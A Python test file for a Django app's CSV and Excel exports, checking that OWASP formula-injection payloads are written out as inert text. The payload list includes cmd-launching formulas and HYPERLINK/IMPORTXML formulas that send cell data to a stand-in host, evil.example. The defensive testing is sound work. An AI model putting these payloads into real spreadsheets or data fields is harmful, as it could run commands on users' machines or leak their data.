"""No export turns stored text into a live formula: OWASP's CSV-injection payloads come out of
every CSV as text with a leading apostrophe, and out of every Excel workbook as text cells."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from clinlead import exports

# OWASP, "CSV Injection": the payloads its page lists, and the leading characters it names.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n-3+3+cmd|' /C calc'!D2",
    " =1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
]
HARMLESS = ["Ann", "O'Neil", "Smith-Jones", "a=b", "", "100%"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_payload_becomes_apostrophe_text_in_csv(payload):
    assert exports.spreadsheet_text(payload) == "'" + payload
    out = io.StringIO()
    exports.SafeCsvWriter(out).writerow(["x", payload, 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["x", "'" + payload, "3"]


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert exports.spreadsheet_text(value) == value
    assert exports.spreadsheet_text(-2.5) == -2.5


def test_no_cell_of_a_workbook_is_a_formula_whatever_the_text():
    data = exports.workbook_bytes(
        {"Leaders": (["Leader", "Index"], [[p, 3.5] for p in OWASP_PAYLOADS + HARMLESS])}
    )
    sheet = load_workbook(io.BytesIO(data))["Leaders"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Shown as typed (XML reads a carriage return back as a line feed).
    assert [c.value for c in cells] == [
        v.replace("\r", "\n") or None for v in OWASP_PAYLOADS + HARMLESS
    ]
    assert all(c.data_type == "s" for c in cells if c.value)
    assert all(c.quotePrefix for c in cells[: len(OWASP_PAYLOADS)])


@pytest.mark.django_db
def test_the_leader_index_export_holds_a_formula_name_as_text(client):
    from clinlead.accounts.models import Role, RoleGrant, User
    from clinlead.leaderindex.services import publish_cycle
    from tests.surveys.world import World

    world = World(k=5)
    leader = world.person("Medicine")
    leader.first_name = OWASP_PAYLOADS[1]
    leader.save()
    cycle = world.cycle()
    world.responses(cycle, leader=leader, unit_path="Medicine", n=20)
    publish_cycle(actor=None, cycle=cycle)
    user = User.objects.create(username="exec")
    RoleGrant.objects.create(user=user, role=Role.EXECUTIVE, organisation=world.org)
    client.force_login(user)
    book = load_workbook(
        io.BytesIO(client.get(reverse("leaderindex:export", kwargs={"pk": cycle.pk})).content)
    )
    (name,) = [row[0] for row in book["Leaders"].iter_rows(min_row=2)]
    assert name.value.startswith("=HYPERLINK") and name.data_type == "s"


@pytest.mark.django_db
def test_the_audit_csv_writes_a_formula_as_apostrophe_text(client):
    from clinlead.accounts.models import Role, RoleGrant, User
    from clinlead.audit.models import AuditEvent
    from clinlead.org.models import Organisation

    org = Organisation.objects.create(name="Test Trust", slug="test-trust")
    user = User.objects.create(username="auditor")
    RoleGrant.objects.create(user=user, role=Role.AUDITOR, organisation=org)
    AuditEvent.objects.create(
        action="org.renamed",
        organisation=org,
        object_repr=OWASP_PAYLOADS[0],
        actor_label='=HYPERLINK("http://x")',
    )
    client.force_login(user)
    body = b"".join(
        client.get(reverse("audit:export", kwargs={"slug": org.slug})).streaming_content
    ).decode()
    rows = list(csv.reader(io.StringIO(body)))
    written = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell or "cmd|" in cell]
    assert written and all(cell.startswith("'") for cell in written)
